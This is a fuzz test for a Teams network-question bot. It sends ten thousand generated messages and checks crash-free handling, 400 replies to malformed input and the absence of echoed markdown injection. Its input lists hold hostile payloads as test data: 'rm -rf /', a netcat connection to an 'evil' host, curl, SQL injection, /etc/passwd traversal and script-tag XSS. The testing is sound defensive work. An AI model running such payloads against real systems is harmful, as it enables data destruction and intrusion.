// ≥ 10,000 generated messages through the bot over HTTP: no crash, no
// unhandled rejection, exactly one well-formed reply per answerable message,
// 400 for malformed activities, and nothing typed echoed as live markdown.
import { loadConfig } from '../../src/config';
import { startServer, type Running } from '../../src/server';
import { Connector, post } from '../helpers/connector';

const COUNT = 10_000;
const CONCURRENCY = 32;

function rng(seed: number) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = Math.imul(a ^ (a >>> 15), a | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
const r = rng(20261126);
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(r() * xs.length)];
const int = (n: number) => Math.floor(r() * n);

const UNICODE = [
  'é',
  'ß',
  'Ω',
  'Ж',
  '中',
  '𝔘',
  '🔥',
  '👩‍💻',
  '\u200b',
  '\u202e',
  '\u0301',
  'ﷺ',
  '\ud83d',
  '\u0000',
  '\t',
  '\n',
  '\\',
  '"',
  "'",
  '<',
  '>',
  '&',
  '{',
  '}',
  '$',
  '`',
  '|',
  ';',
  '*',
  '_',
  '[',
  ']',
  '(',
  ')',
  '#',
  '~',
];
const WORDS = [
  'public',
  'ip',
  'of',
  'pod',
  'sqlapi',
  'server',
  'route',
  'sqlapilb',
  'what',
  'is',
  'can',
  'reach',
  'path',
  '->',
  'egress',
  'inbound',
  'lbs',
  'dns',
  'resolve',
  'from',
  'to',
  '-n',
  'project1',
  'help',
  'where',
  '1433',
  'svc',
  'the',
  'and',
  'what about',
];
const INJECTIONS = [
  '**INJ**',
  '[INJ](https://evil.example)',
  '<script>INJ</script>',
  '${INJ}',
  '{"type":"AdaptiveCard","body":[]}',
  '<at>INJ</at>',
  '# INJ',
  '- INJ',
  '`INJ`',
  '![INJ](https://evil.example/x.png)',
  '<img src=x onerror=INJ>',
];
const SHELL = [
  "'; DROP TABLE pods; --",
  '$(rm -rf /)',
  '`id`',
  '| nc evil 4444',
  '&& curl evil',
  '../../etc/passwd',
  '%00',
  '{{7*7}}',
  '\\u0000',
];
const IPS = [
  '999.1.1.1',
  '300.300.300.300',
  '10.0.0.256',
  '1.2.3',
  '::1',
  'fe80::1',
  '10.129.2.7',
  '20.105.84.161',
  '0.0.0.0',
  '255.255.255.255',
];

function text(): string {
  // huge texts are rarer (they are slow to send), still well over a hundred of them
  if (int(60) === 0) return 'x'.repeat(100_000 + int(20_000)) + pick(WORDS);
  switch (int(9)) {
    case 0:
      return Array.from({ length: int(200) }, () => pick(UNICODE)).join('');
    case 1:
      return `${pick(WORDS)} ${'é'.repeat(int(3000))} ${pick(WORDS)}`;
    case 2:
      return `${pick(['public ip of pod', 'where is pod', 'how does traffic reach route', 'what is'])} ${pick(INJECTIONS)}`;
    case 3:
      return `${pick(WORDS)} ${pick(SHELL)} ${pick(WORDS)}`;
    case 4:
      return `what is ${pick(IPS)}`;
    case 5:
      return `public ip of ${'a'.repeat(254 + int(200))}`;
    case 6:
      return pick(['', ' ', '\n\n', '\u200b']);
    case 7:
      return `<at>${pick(['packet-path', 'Alice', '<at>x</at>', ''])}</at> ${Array.from({ length: int(8) }, () => pick(WORDS)).join(' ')}`;
    default:
      return Array.from({ length: 1 + int(10) }, () => pick(r() < 0.2 ? INJECTIONS : WORDS)).join(' ');
  }
}

const VALUES = [
  null,
  [],
  'string',
  42,
  { question: 123 },
  { question: { x: 1 } },
  { intent: 'egress' },
  { question: 'public ip of sqlapi', intent: '../../etc' },
  { question: 'what is 10.129.2.7', full: 'yes' },
  { question: '**INJ**', intent: 'what-is' },
  { question: 'x'.repeat(5000) },
];

let seq = 0;
function activity(serviceUrl: string): {
  body: unknown;
  valid: boolean;
  typed: string;
} {
  const id = `fz-${++seq}`;
  const base: any = {
    type: 'message',
    id,
    channelId: 'msteams',
    serviceUrl,
    from: { id: `u-${seq % 97}`, name: 'Fuzz', aadObjectId: `aad-${seq % 97}` },
    recipient: { id: 'bot-1', name: 'packet-path' },
    conversation: {
      id: `c-${seq}`,
      conversationType: pick(['personal', 'channel', 'groupChat']),
      tenantId: 't',
    },
    locale: 'en-US',
  };
  const kind = int(20);
  if (kind === 0) {
    // malformed activities
    const broken = pick([
      { ...base, conversation: undefined },
      { ...base, serviceUrl: 'not a url' },
      { ...base, text: { nested: true } },
      { ...base, type: undefined },
      [base],
      'a string',
      { ...base, type: 42 },
    ]);
    return { body: broken, valid: false, typed: '' };
  }
  if (kind === 1) {
    const value = pick(VALUES);
    return {
      body: { ...base, text: undefined, value },
      valid: true,
      typed: JSON.stringify(value),
    };
  }
  const t = text();
  const entities = t.includes('<at>packet-path</at>')
    ? [
        {
          type: 'mention',
          mentioned: { id: 'bot-1', name: 'packet-path' },
          text: '<at>packet-path</at>',
        },
      ]
    : undefined;
  return { body: { ...base, text: t, entities }, valid: true, typed: t };
}

let connector: Connector;
let bot: Running;
const unhandled: unknown[] = [];
const onUnhandled = (e: unknown) => unhandled.push(e);

beforeAll(async () => {
  process.on('unhandledRejection', onUnhandled);
  connector = await new Connector().start();
  bot = await startServer(
    loadConfig({
      PORT: '0',
      PACKET_PATH_RATE_LIMIT_PER_MINUTE: '0',
      LOG_LEVEL: 'silent',
    }),
  );
});
afterAll(async () => {
  process.off('unhandledRejection', onUnhandled);
  await bot.close();
  await connector.stop();
});

test(`${COUNT} generated messages: one well-formed reply each, 400 for malformed, no markdown injection`, async () => {
  const sent: { id?: string; valid: boolean; typed: string; status: number }[] = [];
  let next = 0;
  const url = `http://127.0.0.1:${bot.port}/api/messages`;
  await Promise.all(
    Array.from({ length: CONCURRENCY }, async () => {
      while (next < COUNT) {
        next++;
        const a = activity(connector.url);
        const status = await post(url, a.body);
        sent.push({
          id: (a.body as { id?: string })?.id,
          valid: a.valid,
          typed: a.typed,
          status,
        });
      }
    }),
  );
  expect(sent.length).toBeGreaterThanOrEqual(COUNT);
  // malformed activities are refused, answerable ones accepted
  expect(sent.filter((s) => !s.valid).every((s) => s.status === 400)).toBe(true);
  expect(sent.filter((s) => s.valid).every((s) => s.status === 200)).toBe(true);

  const replies = new Map<string, any[]>();
  for (const a of connector.activities)
    if (a.body?.type === 'message' && a.body.replyToId)
      replies.set(a.body.replyToId, [...(replies.get(a.body.replyToId) ?? []), a.body]);
  const problems: string[] = [];
  for (const s of sent.filter((x) => x.valid)) {
    const got = replies.get(s.id!) ?? [];
    if (got.length !== 1) {
      problems.push(`${s.id}: ${got.length} replies`);
      continue;
    }
    const m = got[0];
    // a card's one line is its summary (Teams prints `text` as a message of its own)
    const line = m.text ?? m.summary;
    if (typeof line !== 'string' || !line) problems.push(`${s.id}: no text`);
    const card = m.attachments?.[0];
    if (card && (card.contentType !== 'application/vnd.microsoft.card.adaptive' || card.content?.version !== '1.5'))
      problems.push(`${s.id}: bad card`);
    const json = JSON.stringify(card?.content ?? '');
    if (
      /INJ/.test(s.typed) &&
      (/(?<!\\\\)\*\*INJ\*\*/.test(json) || /(?<!\\\\)\[INJ\]\(/.test(json) || /\$\{INJ\}/.test(json))
    )
      problems.push(`${s.id}: injection echoed: ${json.slice(0, 200)}`);
  }
  expect(problems.slice(0, 10)).toEqual([]);
  expect(unhandled).toEqual([]);
  expect((await fetch(`http://127.0.0.1:${bot.port}/healthz`)).status).toBe(200);
}, 300_000);
